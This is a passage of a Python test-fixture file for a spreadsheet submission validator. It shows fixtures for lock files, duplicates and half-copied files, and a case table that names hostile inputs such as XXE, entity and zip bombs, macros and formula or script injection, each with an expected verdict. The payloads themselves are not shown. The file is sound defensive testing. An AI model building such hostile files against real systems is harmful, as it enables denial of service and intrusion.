    wb.active.title = c.SHEET_ACTIONS
    wb.active.append(list(c.ACTION_COLUMNS))
    wb.active.append([GOOD.get(n) for n in c.ACTION_COLUMNS])
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    return path


def own_workbook(kit: Kit) -> str:
    """A workbook of the förvaltning's own making, not from the template."""
    _own_workbook(kit.inbox / "egen.xlsx")
    return "egen.xlsx"


def same_file_twice(kit: Kit) -> str:
    """The same submission twice under two names: the second is a duplicate."""
    first = kit.filled("a_plan.xlsx")
    kit.write("b_kopia.xlsx", first.read_bytes())
    return "b_kopia.xlsx"


def two_files_one_department(kit: Kit) -> str:
    """Two different submissions from SOC: the later saved (mtime) is in force, whatever its name."""
    later = kit.filled("a_andra.xlsx", [GOOD, GOOD])
    earlier = kit.filled("b_forsta.xlsx")
    kit.touch(later, OLD + 60)
    kit.touch(earlier, OLD)
    kit.in_force["SOC"] = "a_andra.xlsx"
    return "a_andra.xlsx"


def excel_lock_file(kit: Kit) -> str:
    """Excel's owner file ~$plan.xlsx, present while the workbook is open."""
    kit.write("~$plan.xlsx", b"\x0bAnna       ")
    return "~$plan.xlsx"


def libreoffice_lock_file(kit: Kit) -> str:
    """LibreOffice's lock file .~lock.plan.xlsx#."""
    kit.write(".~lock.plan.xlsx#", "Anna,ANNA-PC,anna,01.03.2027 09:00,file:///C:/x;")
    return ".~lock.plan.xlsx#"


def hidden_file(kit: Kit) -> str:
    """A hidden (dot) file, e.g. from macOS: ._plan.xlsx."""
    kit.write("._plan.xlsx", b"\x00\x05\x16\x07" + bytes(60))
    return "._plan.xlsx"


def still_being_written(kit: Kit) -> str:
    """A valid submission modified seconds before the run (may still be saving): waits."""
    kit.touch(kit.filled("ny.xlsx"), time.time() - 5)
    return "ny.xlsx"


def half_copied(kit: Kit) -> str:
    """Half a workbook modified 5 minutes ago (still within the copy grace): waits, not rejected."""
    data = kit.filled("_källa.xlsx", scratch=True).read_bytes()
    kit.touch(kit.write("kopieras.xlsx", data[: len(data) // 2]), time.time() - 300)
    return "kopieras.xlsx"


def empty_template(kit: Kit) -> str:
    """The template returned without any action (nothing filled in)."""
    kit.filled("tom_mall.xlsx", (), concerns={})
    return "tom_mall.xlsx"


# --- the table -----------------------------------------------------------------------------------


def _codes(*codes: str) -> frozenset[str]:
    return frozenset(codes)


CASES: tuple[Case, ...] = (
    # hostile
    Case("entity_bomb_in_shared_strings", entity_bomb_in_shared_strings, "rejected", _codes("dtd")),
    Case("xxe_in_custom_properties", xxe_in_custom_properties, "rejected", _codes("dtd")),
    Case("zip_bomb_lying_header", zip_bomb_lying_header, "rejected", _codes("corrupt_member")),
    Case("zip_bomb_300_mib", zip_bomb_300_mib, "rejected", _codes("zip_bomb"), slow=True),
    Case("zip_bomb_in_worksheet", zip_bomb_in_worksheet, "rejected", _codes("zip_bomb"), slow=True),
    Case("too_many_members", too_many_members, "rejected", _codes("too_many_members")),
    Case("not_a_zip", not_a_zip, "rejected", _codes("not_zip")),
    Case("zero_bytes", zero_bytes, "rejected", _codes("empty")),
    Case("truncated", truncated, "rejected", _codes("truncated")),
    Case("corrupt_member", corrupt_member, "rejected", _codes("corrupt_member")),
    Case("password_protected", password_protected, "rejected", _codes("encrypted")),
    Case("password_protected_xls", password_protected_xls, "rejected", _codes("encrypted")),
    Case("csv_renamed", csv_renamed, "rejected", _codes("csv")),
    Case("html_renamed", html_renamed, "rejected", _codes("html")),
    Case("xlsm_with_macros", xlsm_with_macros, "rejected", _codes("macros")),
    Case("external_links", external_links, "accepted", _codes("external_links"), department="SOC"),
    Case("hyperlink_to_local_file", hyperlink_to_local_file, "accepted", _codes(), department="SOC"),
    Case(
        "million_rows",
        million_rows,
        "rejected",
        _codes("too_many_rows", "marked_goal_without_action"),
        slow=True,
    ),
    Case("styled_empty_rows_to_100000", styled_empty_rows_to_100000, "accepted", _codes(), department="SOC"),
    # injection
    Case("injection_formula_prefixes", injection_formula_prefixes, "accepted", _codes(), department="SOC"),
    Case("injection_tab_and_cr", injection_tab_and_cr, "accepted", _codes(), department="SOC"),
    Case("injection_urls", injection_urls, "accepted", _codes(), department="SOC"),
    Case("injection_script_tag", injection_script_tag, "accepted", _codes(), department="SOC"),
    Case("injection_markdown", injection_markdown, "accepted", _codes(), department="SOC"),
    # careless
    Case("renamed_file", renamed_file, "accepted", _codes(), department="SOC"),
    Case("moved_columns", moved_columns, "accepted", _codes(), department="SOC"),
    Case(
        "deleted_optional_column",
        deleted_optional_column,
        "accepted",
        _codes("missing_optional_column"),
        department="SOC",
    ),
    Case(
        "deleted_required_column",
        deleted_required_column,
        "rejected",
        _codes("missing_column"),
        department="SOC",
    ),
    Case("duplicated_column", duplicated_column, "accepted", _codes("duplicate_column"), department="SOC"),
    Case("extra_column", extra_column, "accepted", _codes("extra_column"), department="SOC"),
    Case(
        "renamed_sheet_atgarder",
        renamed_sheet_atgarder,
        "rejected",
        _codes("missing_sheet", "marked_goal_without_action"),
        department="SOC",
    ),
    Case("deleted_sheet_delmal", deleted_sheet_delmal, "rejected", _codes("missing_sheet"), department="SOC"),
    Case("title_row_above_header", title_row_above_header, "accepted", _codes(), department="SOC"),
    Case("merged_cells_in_table", merged_cells_in_table, "accepted", _codes(), department="SOC"),
    Case("dates_as_iso_text", dates_as_iso_text, "accepted", _codes(), department="SOC"),
    Case(
        "dates_as_text_other_formats",
        dates_as_text_other_formats,
        "rejected",
        _codes("date_invalid"),
        department="SOC",
    ),
    Case("dates_as_serial_1900", dates_as_serial_1900, "accepted", _codes(), department="SOC"),
    Case("dates_as_serial_1904", dates_as_serial_1904, "accepted", _codes(), department="SOC"),
    Case(
        "costs_with_separators_and_units",
        costs_with_separators_and_units,
        "accepted",
        _codes(),
        department="SOC",
    ),
    Case("costs_with_words", costs_with_words, "rejected", _codes("cost_not_number"), department="SOC"),
    Case("hidden_or_filtered_rows", hidden_or_filtered_rows, "accepted", _codes(), department="SOC"),
    Case("formula_with_saved_value", formula_with_saved_value, "accepted", _codes(), department="SOC"),
    Case(
        "formula_without_saved_value",
        formula_without_saved_value,
        "rejected",
        _codes("formula_without_value"),
        department="SOC",
    ),
    Case(
        "another_departments_template", another_departments_template, "accepted", _codes(), department="UTB"
    ),
    Case("old_template_version", old_template_version, "rejected", _codes("template_version")),
    Case(
        "unknown_plan_version",
        unknown_plan_version,
        "accepted",
        _codes("plan_version_unknown"),
        department="SOC",
    ),
    Case("last_years_template", last_years_template, "accepted", _codes(), department="SOC"),
    Case("own_workbook", own_workbook, "rejected", _codes("not_a_template")),
    # LibreOffice's own format and the old Excel one: accepted when they carry the template's identity
    Case("ods_from_template", ods_from_template, "accepted", _codes(), department="SOC", libreoffice=True),
    Case(
        "ods_renamed_to_xlsx", ods_renamed_to_xlsx, "accepted", _codes(), department="SOC", libreoffice=True
    ),
    Case(
        "ods_without_identity", ods_without_identity, "rejected", _codes("not_a_template"), libreoffice=True
    ),
    Case("xls_from_template", xls_from_template, "accepted", _codes(), department="SOC", libreoffice=True),
    Case(
        "xls_without_identity", xls_without_identity, "rejected", _codes("not_a_template"), libreoffice=True
    ),
    Case("empty_template", empty_template, "accepted", _codes(), department="SOC"),
    Case("same_file_twice", same_file_twice, "duplicate"),
    Case("two_files_one_department", two_files_one_department, "accepted", _codes(), department="SOC"),
    Case("excel_lock_file", excel_lock_file, "ignored"),
    Case("libreoffice_lock_file", libreoffice_lock_file, "ignored"),
    Case("hidden_file", hidden_file, "ignored"),
    Case("still_being_written", still_being_written, "waiting"),
    Case("half_copied", half_copied, "waiting"),
)
